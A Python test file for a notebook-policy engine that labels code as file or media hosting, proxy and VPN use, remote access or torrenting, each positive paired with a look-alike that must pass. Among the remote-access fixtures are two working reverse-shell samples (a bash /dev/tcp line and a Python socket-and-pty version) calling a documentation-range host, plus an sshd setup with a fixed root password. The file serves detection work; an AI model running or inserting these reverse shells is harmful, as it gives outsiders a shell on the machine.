"""Round 2 of the network packs: hosting, proxy, remote-access and P2P shapes that hold for files nobody here wrote.

Every case is written here, not copied from anywhere.  Each positive is the *next* file of a kind (another
framework, another language, other names) and sits beside a look-alike that must stay quiet; the category
checks pin the policy: what the code does for its users names the verdict, a tunnel is only secondary
evidence, and a public link to one's own data app or model demo is not hosting.
"""

import pytest

from tests.pack_support import ENGINE, acting, notebook

# ---------------------------------------------------------------------------- web and file hosting

SHARE_PORTAL_BOTTLE = """
import os
from bottle import Bottle, request, static_file, template
site = Bottle()
ROOT = '/content/drive/MyDrive/drop'
@site.get('/')
def index():
    return template(PAGE, entries=sorted(os.scandir(ROOT), key=lambda e: e.name))
@site.post('/push')
def push():
    item = request.files.get('blob')
    item.save(ROOT)
@site.get('/pull/<name>')
def pull(name):
    return static_file(name, root=ROOT, download=True)
"""
SHARE_PORTAL_FASTAPI = """
import os, shutil
from fastapi import FastAPI, UploadFile
from fastapi.responses import FileResponse
hub = FastAPI()
@hub.get('/list')
def listing():
    return sorted(os.listdir('/srv/pool'))
@hub.post('/add')
async def add(doc: UploadFile):
    with open('/srv/pool/' + doc.filename, 'wb') as out:
        shutil.copyfileobj(doc.file, out)
@hub.get('/take/{n}')
def take(n: str):
    return FileResponse('/srv/pool/' + n)
"""
STREAM_BOT = notebook(
    "!pip install -q pyrogram tgcrypto aiohttp",
    "from pyrogram import Client, filters\nfrom aiohttp import web\n"
    "tg = Client('mirror', api_id=API_ID, api_hash=API_HASH, bot_token=BOT_TOKEN)\n"
    "async def serve(request):\n"
    "    msg = await tg.get_messages(ARCHIVE, int(request.match_info['n']))\n"
    "    resp = web.StreamResponse(status=200, headers={'Accept-Ranges': 'bytes', 'Content-Type': 'video/mp4'})\n"
    "    await resp.prepare(request)\n"
    "    async for piece in tg.stream_media(msg):\n"
    "        await resp.write(piece)\n"
    "    return resp",
)
BOT_RUNNER = notebook(
    "from pyrogram import Client, idle\nfrom aiohttp import web\nfrom links.routes import routes\n"
    "tg = Client('links', api_id=API_ID, api_hash=API_HASH, bot_token=BOT_TOKEN)\n"
    "async def main():\n    await tg.start()\n    app = web.Application()\n    app.add_routes(routes)\n"
    "    runner = web.AppRunner(app)\n    await runner.setup()\n    await web.TCPSite(runner, '0.0.0.0', 8080).start()\n"
    "    await idle()",
)
KEEPALIVE_BOT = notebook(
    "import discord\nfrom flask import Flask\nfrom threading import Thread\nping = Flask('ping')\n"
    "@ping.route('/')\ndef up():\n    return 'online'\n"
    "def keep_alive():\n    Thread(target=ping.run, kwargs={'host': '0.0.0.0', 'port': 8080}).start()",
    "keep_alive()\nclient = discord.Client(intents=discord.Intents.all())\nclient.run(TOKEN)",
)
GO_FILE_SERVER = notebook(
    "%%writefile share.go\npackage main\nimport \"net/http\"\nfunc main() {\n"
    "  http.Handle(\"/\", http.FileServer(http.Dir(\"/content/drive/MyDrive\")))\n"
    "  http.ListenAndServe(\":8000\", nil)\n}",
    "!go run share.go &",
    "!cloudflared tunnel --url http://localhost:8000",
)
NODE_FILE_SERVER = notebook(
    "%%writefile files.js\nconst express = require('express');\nconst serveIndex = require('serve-index');\n"
    "const app = express();\napp.use('/', express.static('/content/out'), serveIndex('/content/out', {icons: true}));\n"
    "app.listen(3000);",
    "!nohup node files.js > node.log 2>&1 &",
    "!npx localtunnel --port 3000",
)
PLEX_TUNNEL = notebook(
    "!dpkg -i plexmediaserver.deb || true",
    "!nohup cloudflared tunnel --no-autoupdate --url http://127.0.0.1:32400 > tunnel.log 2>&1 &",
)
JELLYFIN_NGROK = notebook("from pyngrok import ngrok\nngrok.set_auth_token(TOKEN)\nprint(ngrok.connect(8096).public_url)")
HLS_LIVE = notebook(
    "!mkdir -p /content/www && ffmpeg -re -stream_loop -1 -i /content/drive/MyDrive/show.mkv -c:v libx264 "
    "-preset veryfast -c:a aac -f hls -hls_time 4 -hls_flags delete_segments /content/www/live.m3u8 &",
)
ICECAST_PUSH = notebook("!ffmpeg -re -i set.flac -c:a libvorbis -f ogg icecast://source:pw@localhost:8000/radio.ogg &")
RTMP_CONF = notebook(
    "!apt-get -qq install -y nginx libnginx-mod-rtmp",
    "conf = '''rtmp {\n  server {\n    listen 1935;\n    application stream {\n      live on;\n      hls on;\n"
    "      hls_path /tmp/hls;\n    }\n  }\n}\n'''\nopen('/etc/nginx/rtmp.conf', 'w').write(conf)",
)
TSHOCK = notebook(
    "%cd /content/drive/MyDrive/terraria\n!mono TShock.Server.exe -port 7777 -world worlds/map.wld -maxplayers 16 &",
    "!./ngrok tcp 7777 &",
)
MINECRAFT_WITH_SSH = notebook(
    "!apt-get -qq install -y openssh-server\n!echo root:pw | chpasswd\n!/usr/sbin/sshd -D &",
    "!./ngrok tcp 22 &",
    "%cd /content/drive/MyDrive/server\n!java -Xmx10G -jar server.jar nogui",
)


@pytest.mark.parametrize("nb, rule", [
    (notebook(SHARE_PORTAL_BOTTLE), "web_file_hosting.file-share-portal"),
    (notebook(SHARE_PORTAL_FASTAPI), "web_file_hosting.file-share-portal"),
    (STREAM_BOT, "web_file_hosting.telegram-file-stream"),
    (BOT_RUNNER, "web_file_hosting.bot-keepalive-server"),
    (KEEPALIVE_BOT, "web_file_hosting.bot-keepalive-server"),
    (GO_FILE_SERVER, "web_file_hosting.file-server-code"),
    (NODE_FILE_SERVER, "web_file_hosting.file-server-code"),
    (PLEX_TUNNEL, "web_file_hosting.media-server-tunnel"),
    (JELLYFIN_NGROK, "web_file_hosting.media-server-tunnel"),
    (HLS_LIVE, "web_file_hosting.live-restream"),
    (ICECAST_PUSH, "web_file_hosting.live-restream"),
    (RTMP_CONF, "web_file_hosting.rtmp-server"),
    (TSHOCK, "web_file_hosting.game-server"),
    (MINECRAFT_WITH_SSH, "web_file_hosting.game-server"),
])
def test_hosting_shapes_are_named_hosting(nb, rule):
    verdict = ENGINE.check_notebook(nb)
    assert rule in acting(verdict), verdict.findings
    assert verdict.category == "web_file_hosting"
    assert verdict.action in ("warn", "block")


def test_a_port_number_alone_is_not_a_media_server():
    verdict = ENGINE.check_notebook(notebook("from pyngrok import ngrok\nngrok.connect(5000)\nbatch_size = 8096"))
    assert "web_file_hosting.media-server-tunnel" not in acting(verdict)
    assert verdict.category == "proxy_tunnel"  # a bare tunnel stays the tunnel's


def test_tunnel_to_a_media_server_blocks():
    assert ENGINE.check_notebook(PLEX_TUNNEL).action == "block"


def test_ssh_beside_a_game_server_does_not_name_the_verdict():
    verdict = ENGINE.check_notebook(MINECRAFT_WITH_SSH)
    assert verdict.action == "block"
    assert "remote_desktop_ssh.sshd-server" not in acting(verdict)


@pytest.mark.parametrize("nb", [
    # a single upload whose result goes back to the same person: a form, not a portal
    notebook("from flask import Flask, request, send_file\napp = Flask(__name__)\n@app.route('/convert', methods=['POST'])\n"
             "def convert():\n    request.files['sheet'].save('in.xlsx')\n    to_csv('in.xlsx', 'out.csv')\n"
             "    return send_file('out.csv')\napp.run()"),
    # a portal-shaped app around one's own model
    notebook("import torch, os\nfrom fastapi import FastAPI, UploadFile\nfrom fastapi.responses import FileResponse\n"
             "api = FastAPI()\n@api.post('/restore')\nasync def restore(img: UploadFile):\n"
             "    net(load(img.file)).save('out/' + img.filename)\n    return FileResponse('out/' + img.filename)\n"
             "@api.get('/history')\ndef history():\n    return os.listdir('out')"),
    # a bot that only reports a training run
    notebook("import telegram\nbot = telegram.Bot(TOKEN)\nbot.send_message(CHAT, f'epoch {epoch}: loss {loss:.3f}')"),
    # a bot alone, no web server
    notebook("import discord\nclient = discord.Client(intents=discord.Intents.default())\nclient.run(TOKEN)"),
    # a Go API, not a file server
    notebook("%%writefile api.go\npackage main\nimport \"net/http\"\nfunc main() {\n  http.HandleFunc(\"/sum\", sum)\n"
             "  http.ListenAndServe(\":9000\", nil)\n}", "!go run api.go &"),
    # media work that is not broadcasting
    notebook("!ffmpeg -i lecture.mp4 -c:v libx264 -f hls -hls_time 10 -hls_playlist_type vod hls/index.m3u8"),
    notebook("!ffmpeg -re -i sample.mp4 -vf fps=2 frames/%05d.png"),
    # a Plex client, and a port number that only looks like a media server's
    notebook("from plexapi.server import PlexServer\nplex = PlexServer('http://localhost:32400', TOKEN)\n"
             "print([m.title for m in plex.library.section('Movies').all()])"),
    # a downloader that reads byte ranges as a client
    notebook("import requests\nr = requests.get(url, headers={'Range': 'bytes=0-1023'})\n"
             "assert r.status_code == 206, r.headers['Content-Range']"),
])
def test_hosting_look_alikes_are_quiet(nb):
    verdict = ENGINE.check_notebook(nb)
    assert verdict.action == "allow", verdict.findings


@pytest.mark.parametrize("nb", [
    notebook("import subprocess, time\nfrom pyngrok import ngrok\n"
             "subprocess.Popen(['streamlit', 'run', 'dashboard.py'])\ntime.sleep(5)\nprint(ngrok.connect(8501))"),
    notebook("!streamlit run app.py --server.port 8502 &", "!npx localtunnel --port 8502"),
])
def test_tunnel_to_own_data_app_is_not_hosting(nb):
    assert ENGINE.check_notebook(nb).action == "allow"


def test_public_jupyter_is_remote_access():
    verdict = ENGINE.check_notebook(notebook(
        "!nohup jupyter lab --ip=0.0.0.0 --port=8890 --ServerApp.token='' --allow-root &",
        "!cloudflared tunnel --url http://localhost:8890",
    ))
    assert verdict.category == "remote_desktop_ssh"
    assert verdict.action == "warn"


# ---------------------------------------------------------------------------- proxies and VPNs

CLASH_CONFIG = notebook(
    "%%writefile /content/clash/config.yaml\nmixed-port: 7890\nallow-lan: false\nproxies:\n"
    "  - {name: jp-1, type: trojan, server: 198.51.100.20, port: 443, password: pw, sni: cdn.example.net}\n"
    "proxy-groups:\n  - {name: pick, type: select, proxies: [jp-1]}\nrules:\n  - MATCH,pick",
    "!./core -d /content/clash &",
)
SINGBOX_CLIENT = notebook(
    "import json\ncfg = {'outbounds': [{'type': 'vless', 'server': '203.0.113.30', 'server_port': 443, 'uuid': UID,\n"
    "                    'tls': {'enabled': True, 'server_name': 'edge.example.org'}}]}\njson.dump(cfg, open('c.json', 'w'))",
    "!./core run -c c.json &",
)
ROTATOR = """
import random, requests
with open('proxy_pool.txt') as fh:
    pool = fh.read().split()
for page in pages:
    exit_node = random.choice(pool)
    html = requests.get(page, proxies={'http': 'http://' + exit_node, 'https': 'http://' + exit_node}).text
"""
ROTATOR_INDEXED = """
import aiohttp, asyncio
hops = open('hops.lst').read().splitlines()
async def fetch(session, n, url):
    async with session.get(url, proxy=hops[n % len(hops)]) as r:
        return await r.text()
"""
WS_TUNNEL = """
import socket
cdn = socket.socket()
cdn.connect(('104.18.2.2', 80))
cdn.sendall(b'GET /tun HTTP/1.1\\r\\nHost: my-relay.example.net\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n')
"""
GO_SOCKS = notebook(
    "%%writefile relay.go\npackage main\nimport \"github.com/things-go/go-socks5\"\n"
    "func main() { srv := socks5.NewServer(); srv.ListenAndServe(\"tcp\", \":1080\") }",
    "!go run relay.go &",
)
NODE_CONNECT = notebook(
    "%%writefile fwd.js\nconst http = require('http'), net = require('net');\nconst s = http.createServer();\n"
    "s.on('connect', (req, client, head) => { const [h, p] = req.url.split(':');\n"
    "  const up = net.connect(p, h, () => { client.write('HTTP/1.1 200 OK\\r\\n\\r\\n'); up.pipe(client); client.pipe(up); }); });\n"
    "s.listen(3128);",
    "!node fwd.js &",
)


@pytest.mark.parametrize("nb, rule", [
    (CLASH_CONFIG, "proxy_tunnel.clash-style-config"),
    (SINGBOX_CLIENT, "proxy_tunnel.proxy-protocol-config"),
    (notebook(ROTATOR), "proxy_tunnel.proxy-rotation"),
    (notebook(ROTATOR_INDEXED), "proxy_tunnel.proxy-rotation"),
    (notebook(WS_TUNNEL), "proxy_tunnel.websocket-tunnel-payload"),
    (GO_SOCKS, "proxy_tunnel.proxy-server-code"),
    (NODE_CONNECT, "proxy_tunnel.proxy-server-code"),
    (notebook("!sudo python3 protonvpn_up.py --fastest"), "proxy_tunnel.vpn-proxy-launcher"),
    (notebook("rows = requests.get('https://www.vpngate.net/api/iphone/').text.splitlines()"), "proxy_tunnel.vpn-server-list"),
    (notebook("s = requests.Session()\ns.proxies = {'https': 'socks5h://127.0.0.1:9150'}\ns.get(ONION)"), "proxy_tunnel.tor"),
    (notebook("%%bash\nsystemctl enable mihomo\nsystemctl start mihomo"), "proxy_tunnel.proxy-service"),
    (notebook("!curl -L https://github.com/SagerNet/sing-box/releases/download/v1.8.0/sb.tar.gz -o sb.tgz"),
     "proxy_tunnel.proxy-software-install"),
])
def test_proxy_shapes_are_named_proxy(nb, rule):
    verdict = ENGINE.check_notebook(nb)
    assert rule in acting(verdict), verdict.findings
    assert verdict.category == "proxy_tunnel"


@pytest.mark.parametrize("nb", [
    notebook("import requests\nr = requests.get(url, proxies={'https': 'http://proxy.corp.example.com:3128'})"),
    notebook("import os, requests\nhop = os.environ['HTTPS_PROXY']\nfor u in urls:\n    requests.get(u, proxies={'https': hop})"),
    notebook("import requests\nrows = [tr.text for tr in soup.select('table tr')]\nopen('proxy_list.txt', 'w').write('\\n'.join(rows))"),
    notebook("%%writefile train.yaml\nmodel:\n  type: vit\n  layers: 12\nlisteners:\n  - tensorboard"),
    notebook("%%writefile k8s.yaml\nkind: Service\nspec:\n  type: ClusterIP\n  ports:\n  - port: 80"),
    notebook("record = {'type': 'trojan', 'family': 'zeus', 'sha256': digest}"),
    notebook("import websockets\nasync with websockets.connect('wss://feed.example.com/live') as ws:\n    await ws.send('hi')"),
    notebook("!python vpn_flow_classifier.py --data iscx_vpn.csv"),
    notebook("%%writefile db.js\nconst pg = require('pg');\nclient.on('connect', () => console.log('db up'));", "!node db.js"),
])
def test_proxy_look_alikes_are_quiet(nb):
    verdict = ENGINE.check_notebook(nb)
    assert verdict.action == "allow", verdict.findings


# ---------------------------------------------------------------------------- remote access

@pytest.mark.parametrize("nb, rule", [
    (notebook("import os, pty\nfrom flask import Flask\nfrom flask_socketio import SocketIO\nsite = Flask(__name__)\n"
              "io = SocketIO(site)\npid, fd = pty.fork()\nif pid == 0:\n    os.execvp('bash', ['bash'])\n"
              "@io.on('keys')\ndef keys(d):\n    os.write(fd, d.encode())"), "remote_desktop_ssh.pty-web-terminal"),
    (notebook("!bash -c 'bash -i >& /dev/tcp/198.51.100.44/4242 0>&1' &"), "remote_desktop_ssh.reverse-shell"),
    (notebook("import socket, os, pty\nlink = socket.create_connection(('198.51.100.44', 4242))\n"
              "os.dup2(link.fileno(), 0)\nos.dup2(link.fileno(), 1)\nos.dup2(link.fileno(), 2)\npty.spawn('/bin/bash')"),
     "remote_desktop_ssh.reverse-shell"),
    (notebook("!pip install -q webssh", "!nohup wssh --port=8888 --address=0.0.0.0 &"), "remote_desktop_ssh.web-terminal"),
])
def test_remote_access_shapes(nb, rule):
    verdict = ENGINE.check_notebook(nb)
    assert rule in acting(verdict), verdict.findings
    assert verdict.category == "remote_desktop_ssh"


@pytest.mark.parametrize("nb", [
    notebook("import pty\npty.spawn(['python3', 'quiz.py'])"),
    notebook("import os\nlog = open('train.log', 'w')\nos.dup2(log.fileno(), 1)\nos.dup2(log.fileno(), 2)"),
    notebook("!nc -zv db.example.org 5432"),
    notebook("import asyncio, websockets\nasync def echo(ws):\n    async for m in ws:\n        await ws.send(m)\n"
             "asyncio.run(websockets.serve(echo, 'localhost', 8765).__aenter__())"),
])
def test_remote_access_look_alikes_are_quiet(nb):
    verdict = ENGINE.check_notebook(nb)
    assert verdict.action == "allow", verdict.findings


# ---------------------------------------------------------------------------- peer to peer

@pytest.mark.parametrize("nb, rule", [
    (notebook("import bencodepy, asyncio\nmeta = bencodepy.decode(open(sys.argv[1], 'rb').read())\n"
              "MY_ID = b'-QX0102-' + os.urandom(12)\nasync def peer(host, port):\n"
              "    r, w = await asyncio.open_connection(host, port)\n    await swap_hello(w, MY_ID, digest)"),
     "torrent_p2p.peer-wire-client"),
    (notebook("%%writefile fetch.go\npackage main\nimport \"github.com/anacrolix/torrent\"\nfunc main() {\n"
              "  cl, _ := torrent.NewClient(torrent.NewDefaultClientConfig())\n  t, _ := cl.AddMagnet(os.Args[1])\n"
              "  <-t.GotInfo()\n  t.DownloadAll()\n  cl.WaitAll()\n}", "!go run fetch.go \"$MAGNET\""),
     "torrent_p2p.torrent-library-code"),
    (notebook("from aiohttp import web\nfrom leech.torrent_engine import TorrentEngine\nengine = TorrentEngine('/data')\n"
              "async def add(request):\n    return web.json_response({'id': await engine.add((await request.json())['magnet'])})\n"
              "site = web.Application()\nsite.router.add_post('/add', add)\nweb.run_app(site, port=8080)"),
     "torrent_p2p.torrent-service-app"),
])
def test_p2p_shapes(nb, rule):
    verdict = ENGINE.check_notebook(nb)
    assert rule in acting(verdict), verdict.findings
    assert verdict.category == "torrent_p2p"


@pytest.mark.parametrize("nb", [
    notebook("import bencodepy\nmeta = bencodepy.decode(open('set.torrent', 'rb').read())\n"
             "print(meta[b'info'][b'name'], len(meta[b'info'][b'pieces']) // 20)"),
    notebook("import bencode, ssl\nmeta = bencode.bdecode(raw)\nconn = ctx.wrap_socket(sock, server_hostname=host)\n"
             "conn.do_handshake()"),
    notebook("from flask import Flask\nimport torrent_parser as tp\napp = Flask(__name__)\n@app.route('/info')\n"
             "def info():\n    return tp.parse_torrent_file('x.torrent')"),
])
def test_p2p_look_alikes_are_quiet(nb):
    verdict = ENGINE.check_notebook(nb)
    assert verdict.action == "allow", verdict.findings
